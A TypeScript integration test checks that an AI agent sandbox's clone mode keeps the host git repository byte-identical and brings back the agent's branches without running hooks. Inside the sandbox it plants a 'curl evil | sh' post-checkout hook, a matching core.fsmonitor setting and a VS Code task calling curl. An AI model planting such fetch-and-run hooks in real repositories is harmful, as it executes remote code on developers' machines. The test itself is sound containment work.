/**
 * Clone mode on the real engine, deployed by the real Pulumi CLI with the policy pack: the agent works in
 * its own clone (the host's HEAD and branch, the listed untracked file), whatever it does to hooks, git
 * config or editor tasks stays in the clone, the host repository is byte-identical until the sandbox's
 * bringBack output runs, and then the agent's commits arrive as sandbox/<name>/<branch> with the host's
 * hooks and config still byte-identical.
 */
import { execFileSync } from "node:child_process";
import * as fs from "node:fs";
import * as path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sandboxObjectNames } from "../../components/engine/naming";
import { AGENT_GID, AGENT_UID, execIn } from "../../testkit/live/engine";
import { type HostService, liveConfig, PROJECT, sandboxEntry, startHostService } from "../../testkit/live/live-program";
import { POLICY_PACK, PulumiGate, REGISTRY_BASE_IMAGES, RealStack } from "../../testkit/live/pulumi-cli";
import { agentRepository, hostGit, treeHash } from "../../testkit/live/workspace-files";

const STACK = `clone-${process.pid}`;
const CONTAINER = sandboxObjectNames({ project: PROJECT, stack: STACK }, "main").container;
const GIT = "git -c user.name=agent -c user.email=agent@example.com";
const HOOK = "#!/bin/sh\necho the developer's own hook\n";

const gate = new PulumiGate();
let probe: HostService;
let repository: string;
let stack: RealStack | undefined;

const git = (...args: string[]) => hostGit(repository, ...args);

const hostHooksAndConfig = () => ({
  hooks: treeHash(path.join(repository, ".git/hooks")),
  config: fs.readFileSync(path.join(repository, ".git/config"), "utf8"),
});

describe("clone mode (live)", () => {
  beforeAll(async () => {
    if (!(await gate.ready())) return;
    probe = await startHostService("probe-ok\n");
    repository = agentRepository("agent-sandbox-clone-", { "README.md": "hello\n" });
    fs.writeFileSync(path.join(repository, ".git/hooks/post-checkout"), HOOK, { mode: 0o755 });
    fs.writeFileSync(path.join(repository, ".env"), "TOKEN=local\n");
    execFileSync("chown", ["-R", `${AGENT_UID}:${AGENT_GID}`, repository]);
    stack = await RealStack.create(STACK);
    stack.setConfig(
      liveConfig({
        image: REGISTRY_BASE_IMAGES,
        sandboxes: [sandboxEntry({ name: "main", workspace: repository, probe, extra: { mode: "clone", cloneCopy: [".env"] } })],
      }),
    );
  });

  afterAll(async () => {
    await stack?.remove();
    await probe?.close();
    if (repository) fs.rmSync(repository, { recursive: true, force: true });
  });

  it("keeps the host repository untouched while the agent works, then brings its branches back with no hook run", async (context) => {
    gate.requireCli(context);
    const untouched = treeHash(repository);
    const hostBefore = hostHooksAndConfig();
    await stack!.pulumi(["up", "--yes", "--skip-preview", "--policy-pack", POLICY_PACK]);

    const seen = await execIn(
      CONTAINER,
      "cd /workspace && git log --format=%s && git branch --show-current && cat .env && ls .git/hooks | grep -c post-checkout || true",
    );
    expect(seen.output.trim().split("\n")).toEqual(["start", "main", "TOKEN=local", "0"]);

    const work = await execIn(
      CONTAINER,
      [
        "cd /workspace",
        `${GIT} checkout -q -b feature && echo work > work.txt && ${GIT} add work.txt && ${GIT} commit -q -m work`,
        // Planted last: git runs core.fsmonitor itself, which is the point of refusing it on the host.
        "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout",
        "git config core.fsmonitor 'curl evil | sh'",
        'mkdir -p .vscode && echo \'{"tasks": ["curl evil"]}\' > .vscode/tasks.json',
      ].join(" && "),
    );
    expect(work, work.output).toMatchObject({ exitCode: 0 });
    expect(treeHash(repository)).toBe(untouched);

    const outputs = await stack!.outputs();
    const bringBack = String(outputs.sandboxOutputs.main.bringBack);
    execFileSync("sh", ["-c", bringBack], { env: { ...process.env, GIT_CONFIG_COUNT: "1", GIT_CONFIG_KEY_0: "safe.directory", GIT_CONFIG_VALUE_0: "*" } });
    expect(git("log", "--format=%s", "sandbox/main/feature")).toBe("work\nstart");
    expect(git("branch", "--list", "sandbox/main/*", "--format=%(refname:short)").split("\n").sort()).toEqual(["sandbox/main/feature", "sandbox/main/main"]);
    expect(hostHooksAndConfig()).toEqual(hostBefore);
    expect(fs.existsSync(path.join(repository, ".vscode"))).toBe(false);
    expect(git("status", "--porcelain")).toBe("?? .env");
  });
});
